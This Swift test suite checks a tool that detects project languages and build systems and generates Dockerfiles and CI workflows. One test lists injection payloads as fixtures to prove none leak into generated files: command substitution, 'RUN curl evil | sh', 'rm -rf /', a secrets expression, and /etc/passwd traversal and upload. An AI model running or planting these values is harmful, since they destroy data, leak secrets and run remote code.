import Generators
import Testing

@Suite struct ProjectKindTests {
    private func kinds(_ files: [String: String]) -> [String] {
        Detection.model(of: RepositorySnapshot(files)).components.map {
            "\($0.path.isEmpty ? "." : $0.path):\($0.language.value.rawValue)/\($0.packageManager.value.rawValue)"
        }
    }

    private func dockerfile(_ files: [String: String]) throws -> String {
        let repository = RepositorySnapshot(files)
        let plan = GenerationPlan.make(.dockerfile, for: Detection.model(of: repository), in: repository)
        return try #require(plan.files.first { $0.path == "Dockerfile" }).text
    }

    @Test func `a manifest that only lends a library to Swift packages makes no Swift component`() {
        let cpp = [
            "CMakeLists.txt": "project(json)\n", "include/json.hpp": "", "src/a.cpp": "", "Package.swift": "// swift-tools-version: 5.9\n",
        ]
        #expect(kinds(cpp) == [".:cpp/cmake"])
        #expect(kinds(["Package.swift": "// swift-tools-version: 5.9\n", "Sources/a/a.swift": ""]) == [".:swift/swiftpm"])
    }

    @Test func `a level of Java is read where it is set, not where the one at hand is asked`() throws {
        let build =
            "plugins { id 'java' }\nif (JavaVersion.current().isCompatibleWith(JavaVersion.VERSION_17)) { }\njava { sourceCompatibility = JavaVersion.VERSION_21 }\n"
        let model = Detection.model(of: RepositorySnapshot(["build.gradle": build, "src/main/java/A.java": ""]))
        #expect(try #require(model.components.first).version == Sourced("21", Evidence("build.gradle", 3)))
    }

    @Test func `tests in Ruby of a program in another language make no Ruby component`() {
        let files = ["go.mod": "module x\n", "main.go": "", "Gemfile": "gem 'minitest'\n", "test/test_x.rb": ""]
        #expect(kinds(files) == [".:go/go"])
        #expect(kinds(files.merging(["lib/x.rb": ""]) { $1 }) == [".:go/go", ".:ruby/bundler"])
    }

    @Test(arguments: [
        "default: all\n\n.DEFAULT:\n\tcd src && $(MAKE) $@\n",
        "SUBDIRS = src\n\n.DEFAULT:\n\tfor dir in $(SUBDIRS); do $(MAKE) -C $$dir $@; done\n",
    ])
    func `a target that the Makefile hands on to a folder is found there`(makefile: String) throws {
        let model = Detection.model(
            of: RepositorySnapshot([
                "Makefile": makefile, "src/Makefile": "all: x\n\ntest: x\n\t./runtest\n",
                "src/x.c": "",
            ]))
        let test = try #require(model.components.first?.commands.first { $0.purpose == .test })
        #expect(test.line == "make test")
        #expect(test.because == Evidence("src/Makefile", 3))
    }

    @Test func `the language of a Gradle project is that of most of its sources`() {
        let kotlin = ["build.gradle.kts": "plugins {}\n", "core/src/jvmMain/kotlin/A.kt": "", "core/src/jvmMain/kotlin/B.kt": ""]
        let mostly = RepositorySnapshot(kotlin.merging(["core/src/main/java9/module-info.java": ""]) { $1 })
        #expect(Detection.model(of: mostly).components.map(\.language.value) == [.kotlin])
        let java = RepositorySnapshot(["build.gradle": "", "src/main/java/A.java": "", "src/main/java/B.java": "", "buildSrc/src/C.kt": ""])
        #expect(Detection.model(of: java).components.map(\.language.value) == [.java])
    }

    @Test func `sources without a build system have a language and nothing to run`() {
        let files = RepositorySnapshot(["gui.cpp": "int x;\n", "gui.h": "", "examples/a/Makefile": "all:\n"])
        let model = Detection.model(of: files)
        #expect(model.components.map(\.language.value) == [.cpp] && model.components.map(\.packageManager.value) == [.none])
        #expect(GenerationPlan.make(.workflow, for: model, in: files).files.isEmpty)
        #expect(Detection.model(of: RepositorySnapshot(["a.c": "", "index.html": ""])).components.map(\.language.value) == [.html])
    }

    @Test func `a hand-written configure in auto belongs to the root`() {
        #expect(kinds(["auto/configure": "#!/bin/sh\n", "src/core/main.c": ""]) == [".:c/autotools"])
    }

    @Test func `projects in a source folder count where the root holds none, however it is spelt`() {
        #expect(kinds(["Src/Lib.sln": "", "Src/Lib/Lib.csproj": "<Project/>"]) == ["Src:dotnet/nuget"])
    }

    @Test(arguments: [
        ["Gemfile": "", "Gemfile.lock": "", "app.rb": ""],
        [
            "Package.swift": "let package = Package(name: \"x\", targets: [\n  .executableTarget(name: \"server\")])\n",
            "Sources/server/main.swift": "",
        ],
        ["Makefile": "server: src/main.c\n\tcc -o $@ $<\n", "src/main.c": ""],
        ["App/App.csproj": "<Project Sdk=\"Microsoft.NET.Sdk.Web\"><TargetFramework>net9.0</TargetFramework></Project>", "App.sln": ""],
        ["go.mod": "module x\n\ngo 1.25\n", "main.go": "http.ListenAndServe(addr, nil)\n"], ["app.py": "", "requirements.txt": "flask\n"],
    ]) func `an application's image runs as a number, answers for its health and keeps its layers`(files: [String: String]) throws {
        let text = try dockerfile(files)
        #expect(text.contains("\nUSER 10001:10001\n"))
        #expect(text.contains("\nHEALTHCHECK "))
        #expect(!text.contains("curl"))
        #expect(text.split(separator: "\n").count { $0.hasPrefix("FROM ") } == 2)
        #expect(text.contains("\nENTRYPOINT [") || text.contains("\nCMD ["))
    }

    @Test func `a Swift image builds the executable, whatever the package is called`() throws {
        let files = [
            "Package.swift": "let package = Package(name: \"x\", targets: [.executableTarget(name: \"server\")])\n",
            "Sources/server/main.swift": "",
        ]
        #expect(try dockerfile(files).contains("--product server && mkdir /out && cp .build/release/server /out/app"))
    }

    /// Names and texts that would act in a shell, an expression, YAML or a Dockerfile if they were pasted.
    private static let hostile = [
        "$(touch /tmp/pwned)", "${{ secrets.TOKEN }}", "a\nRUN curl evil | sh", "'; rm -rf /; '", "\u{202E}txt", "../../etc/passwd",
        "--upload-file=/etc/passwd",
    ]

    @Test(arguments: hostile) func `nothing a repository says becomes an expression, a second line or a path outside`(text: String) {
        let quoted = text.replacing("\n", with: "\\n").replacing("\"", with: "\\\"")
        let repository = RepositorySnapshot([
            "package.json":
                #"{"name": "\#(quoted)", "private": true, "scripts": {"test": "\#(quoted)", "start": "node \#(quoted)"}, "engines": {"node": "\#(quoted)"}}"#,
            ".nvmrc": text + "\n", "Cargo.toml": "[package]\nname = \"\(quoted)\"\n", "Cargo.lock": "", "src/main.rs": "",
            "Package.swift": ".executableTarget(name: \"\(quoted)\")\n", "Sources/x/main.swift": "",
            "Makefile": "x:\n\tcc -o \(text) x.c\n\(text): x\n\ntest: x\n", "x.c": "", "go.mod": "module \(text)\n\ngo \(text)\n",
            "main.go": "",
        ])
        let model = Detection.model(of: repository)
        for kind in GenerationPlan.Kind.allCases {
            for file in GenerationPlan.make(kind, for: model, in: repository).files {
                #expect(!file.text.contains("$(touch"))
                #expect(!file.text.contains("secrets.TOKEN"))
                #expect(!file.text.split(separator: "\n").contains { $0.hasPrefix("RUN curl evil") })
                #expect(!file.text.contains("rm -rf /"))
                #expect(!file.text.contains("etc/passwd"))
            }
        }
    }

    @Test func `an empty repository, and one of bytes alone, is told and gives no file`() {
        for files in [[:], ["package.json": "\0\0\0", "go.mod": "\0", "pyproject.toml": "\0\0", "a.bin": "\0"]] as [[String: String]] {
            let repository = RepositorySnapshot(files)
            let plan = GenerationPlan.make(.workflow, for: Detection.model(of: repository), in: repository)
            #expect(plan.files.isEmpty, "\(plan.files.map(\.path))")
            #expect(!plan.notes.isEmpty)
        }
    }
}
